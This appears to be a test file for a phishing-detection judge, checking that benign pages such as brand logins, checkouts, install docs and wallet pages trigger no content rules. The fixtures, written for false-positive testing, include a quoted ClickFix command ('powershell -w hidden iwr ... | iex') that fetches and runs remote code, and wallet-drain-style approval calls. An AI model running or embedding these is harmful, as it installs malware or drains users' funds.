import { expect, test } from 'bun:test'
import { find } from '../../../src/trust/judge/judge.ts'
import { TABLES } from '../../../src/trust/judge/tables.ts'
import { served } from './page-subject.ts'

/** Rules about what a page is and asks for that fire on it. */
function contentRules(body: string, url: string): string[] {
  const subject = served(body, { url })
  const rules = TABLES.flatMap((table) => find(table, subject)).map(({ rule }) => rule)
  return [...new Set<string>(rules.filter((rule) => rule.startsWith('content.')))]
}

const page = (title: string, body: string, head = '') =>
  `<!doctype html><html lang=en><head><meta charset=utf-8><title>${title}</title>${head}</head><body>${body}</body></html>`
const prose = (sentence: string) => `<p>${`${sentence} `.repeat(60)}</p>`
const LOGIN =
  '<form method=post action="/login"><label>Email <input type=email name=email></label><label>Password <input type=password name=password autocomplete=current-password></label><button>Log in</button></form>'
const MINIFIED =
  `!function(e,t){"use strict";var n={};function r(o){if(n[o])return n[o].exports;var i=n[o]={i:o,l:!1,exports:{}};return e[o].call(i.exports,i,i.exports,r),i.l=!0,i.exports}r.m=e,r.c=n}([function(e,t){e.exports=function(e){return e.map(function(e){return String.fromCharCode(e)}).join("")}},function(e,t){document.createElement("div").innerHTML="<span></span>"}]);`.repeat(
    20,
  )

test.each([
  [
    'the login of a brand on its own domain',
    'https://www.paypal.com/signin',
    page(
      'Log in to your PayPal account',
      `<img src="https://www.paypalobjects.com/logo.svg" alt=PayPal><h1>Log in</h1>${LOGIN}<footer>© 1999-2026 PayPal, Inc.</footer>`,
      '<link rel=icon href="https://www.paypalobjects.com/favicon.ico">',
    ),
  ],
  [
    'a sign-in that goes to another domain of the owner',
    'https://www.microsoft.com/account',
    page(
      'Sign in to your Microsoft account',
      `<img alt=Microsoft>${LOGIN.replace('/login', 'https://login.live.com/post.srf')}`,
    ),
  ],
  [
    'the login of a small site',
    'https://garden-club.example/login',
    page(
      'Log in – Garden Club',
      `<h1>Garden Club</h1>${LOGIN}<a href=/forgot>Forgot password?</a><footer>© 2026 Garden Club</footer>`,
    ),
  ],
  [
    'a login with buttons of others',
    'https://garden-club.example/login',
    page(
      'Log in – Garden Club',
      `${LOGIN}<button><img src=/google.svg alt=Google> Continue with Google</button><button><img src=/apple.svg alt=Apple> Continue with Apple</button><form action="https://accounts.google.com/o/oauth2/auth"><button>Google</button></form>`,
    ),
  ],
  [
    'a shop that is paid through a provider',
    'https://shoes.example/checkout',
    page(
      'Checkout – Shoes',
      '<form action="https://checkout.stripe.com/pay"><input autocomplete=cc-number name=card><input name=cvc></form><img alt=Visa><img alt=Mastercard><img alt=PayPal><img alt="American Express"><iframe src="https://js.stripe.com/v3/m-outer" style="display:none"></iframe>',
    ),
  ],
  [
    'an article about phishing',
    'https://security-news.example/clickfix',
    page(
      'How PayPal phishing and ClickFix attacks work | Security News',
      `<h1>How PayPal phishing and ClickFix attacks work</h1>${prose('"Log in to your PayPal account", says the page; "your account will be suspended within 24 hours".')}
       ${prose('Others say "verify you are human", "press Windows + R", "press Ctrl + V" and have "powershell -w hidden iwr https://x.example/a | iex" run, or ask for the 12-word seed phrase.')}
       <img src=/fake-paypal.png alt="A fake PayPal login page"><p>Windows Defender security alert: call +1 888 555 0100, do not restart.</p>
       <button onclick="navigator.clipboard.writeText(location.href)">Copy link</button><h2>Comments</h2><form action=/comment><textarea name=comment></textarea></form><footer>© 2026 Security News</footer>`,
      '<meta property=og:type content=article><meta property=og:site_name content="Security News">',
    ),
  ],
  [
    'documentation with commands to copy',
    'https://docs.tool.example/install',
    page(
      'Install – Tool',
      `<h1>Install</h1><h2>macOS and Linux</h2><p>Open a terminal and paste:</p><pre>curl -fsSL https://tool.example/install.sh | sh</pre><button class=copy data-clipboard-text="curl -fsSL https://tool.example/install.sh | sh">Copy</button>
       <h2>Windows</h2><pre>powershell -c "irm https://tool.example/install.ps1 | iex"</pre><button data-clipboard-text='powershell -c "irm https://tool.example/install.ps1 | iex"'>Copy</button><script>for (const b of document.querySelectorAll('.copy')) b.onclick = () => navigator.clipboard.writeText(b.previousSibling.innerText)</script>`,
    ),
  ],
  [
    'a minified application with a login',
    'https://app.example/',
    page(
      'App',
      `<div id=root></div><noscript>You need to enable JavaScript to run this app.</noscript>${LOGIN}<script>${MINIFIED}</script>`,
    ),
  ],
  [
    'an exchange on its own domain',
    'https://www.coinbase.com/signin',
    page(
      'Sign in to Coinbase',
      `<img alt="Coinbase logo">${LOGIN}<p>Claim your rewards. Your account will be suspended. Act now.</p><script>window.ethereum.request({method:"eth_requestAccounts"});t.approve(a,MaxUint256);setApprovalForAll()</script>`,
    ),
  ],
  [
    'a wallet on its own domain',
    'https://portfolio.metamask.io/restore',
    page(
      'MetaMask',
      '<h1>Import with your Secret Recovery Phrase</h1><textarea placeholder="Secret Recovery Phrase"></textarea>',
    ),
  ],
  [
    'an exchange of tokens that few know',
    'https://swap.example/',
    page(
      'Swap',
      '<h1>Swap tokens</h1><button>Connect wallet</button><script>window.ethereum.request({method:"eth_requestAccounts"});ethereum.request({method:"eth_signTypedData_v4"});permit2.sign(x)</script>',
    ),
  ],
  [
    'a page of downloads',
    'https://editor.example/download',
    page(
      'Download Editor',
      '<h1>Download</h1><a href="/editor-1.2.exe">Windows</a><a href="/editor-1.2.dmg">macOS</a><a href="/editor.deb" download>Linux</a><p>SHA-256: 0a1b</p>',
    ),
  ],
  [
    'a parked domain',
    'https://parked.example/',
    page(
      'parked.example',
      '<h1>parked.example</h1><p>This domain is for sale. Call +1 (555) 010-0100.</p><script src="https://img.sedoparking.com/x.js"></script>',
    ),
  ],
  [
    'a page with a film, a map and counters',
    'https://cafe.example/',
    page(
      'Café',
      '<iframe src="https://www.youtube.com/embed/x" width=560></iframe><iframe src="https://www.google.com/maps/embed?pb=1" width=600></iframe><noscript><iframe src="https://www.googletagmanager.com/ns.html?id=G" height=0 width=0 style="display:none;visibility:hidden"></iframe></noscript>',
    ),
  ],
  [
    'a page about a brand’s products',
    'https://phone-repair.example/',
    page(
      'Apple iPhone repair in Berlin – Phone Doctor',
      '<h1>Apple iPhone repair</h1><img src=/apple-logo.png alt="Apple"><p>Call 030 5550 0100. Apple is a trademark of Apple Inc.</p><form action=/contact><input type=email><textarea name=message></textarea></form><footer>© 2026 Phone Doctor</footer>',
    ),
  ],
  [
    'a guide to keeping a seed phrase',
    'https://wallets.example/guide',
    page(
      'What is a seed phrase?',
      `<h1>What is a seed phrase?</h1>${prose('Write your 12-word recovery phrase on paper and never type it.')}<form action=/subscribe><input type=email placeholder="Your email"></form>`,
    ),
  ],
  [
    'an export of a table',
    'https://stats.example/',
    page(
      'Statistics',
      '<button id=x>Export</button><script>x.onclick=function(){var b=new Blob([rows.join("\\n")],{type:"text/csv"});a.href=URL.createObjectURL(b);a.download="table.csv";a.click()}</script>',
    ),
  ],
  [
    'a bank in Japan on its own domain',
    'https://www.rakuten-bank.co.jp/login',
    page(
      '楽天銀行 ログイン',
      `<img alt="楽天銀行"><h1>ログイン</h1>${LOGIN}<p>不正ログインにご注意ください。24時間以内に</p>`,
    ),
  ],
  [
    'a blog on a platform',
    'https://gardener.github.io/',
    page(
      'A gardener’s blog',
      '<h1>Tomatoes</h1><p>Water them.</p><form action="https://formspree.io/f/x"><input type=email><textarea name=message></textarea></form>',
    ),
  ],
])('%s stays quiet', (_, url, body) => {
  expect(contentRules(body, url)).toEqual([])
})
